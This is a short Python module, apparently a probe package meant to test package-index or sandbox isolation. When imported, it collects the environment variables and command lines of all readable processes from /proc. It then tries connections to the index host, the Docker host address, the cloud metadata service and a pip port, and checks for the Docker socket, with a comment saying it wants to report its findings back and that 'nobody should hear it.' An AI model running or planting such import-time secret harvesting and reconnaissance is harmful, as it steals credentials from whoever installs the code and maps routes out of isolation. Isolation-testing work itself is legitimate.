"""Wants to send what it finds to the index that it came from."""

import os
import socket
from pathlib import Path

from .attempts import outcomes

SECONDS = 2
PORT_OF_INDEX = int("{PORT}")
PORT_OF_PIP = 11412


def call(address, port):
    """Send a request; nobody should hear it."""
    with socket.create_connection((address, port), SECONDS) as channel:
        channel.sendall(b"GET /home HTTP/1.0\r\n\r\n")


def text_of_processes():
    """Environments and arguments of all processes that can be read."""
    told = repr(dict(os.environ))
    for file in [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]:
        try:
            told += file.read_text(errors="replace")
        except OSError:
            continue
    return told


FOUND = {
    "text": text_of_processes(),
    "outcomes": outcomes(
        {
            "the index": lambda: call("127.0.0.1", PORT_OF_INDEX),
            "the index from the world": lambda: call("172.17.0.1", PORT_OF_INDEX),
            "metadata of a cloud": lambda: call("169.254.169.254", 80),
            "the way of pip": lambda: call("127.0.0.1", PORT_OF_PIP),
            "the Docker socket": lambda: os.stat("/var/run/docker.sock"),
        }
    ),
}
